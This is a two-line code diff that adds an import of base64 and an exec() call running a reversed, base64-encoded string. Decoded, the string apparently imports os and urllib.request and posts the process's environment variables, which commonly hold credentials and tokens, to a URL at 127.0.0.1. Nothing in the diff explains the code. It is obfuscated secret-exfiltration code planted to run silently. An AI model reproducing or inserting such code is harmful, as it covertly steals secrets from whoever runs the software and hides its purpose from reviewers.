@@ -1,0 +1,2 @@
+import base64
+exec(base64.b64decode('KkSKoUGZvNmbl5SKu9mcpZnbl5ycvhic0NXPhRXYkBCLng3Lx4CMuAjL3ITMv8iOwRHdodCKuVGcvxmc15CdzVWdxVmcuIWasxmc1pAdzVWdxVmcuIWasxmc1BCLz9GI0J3bw1Wa'[::-1]))
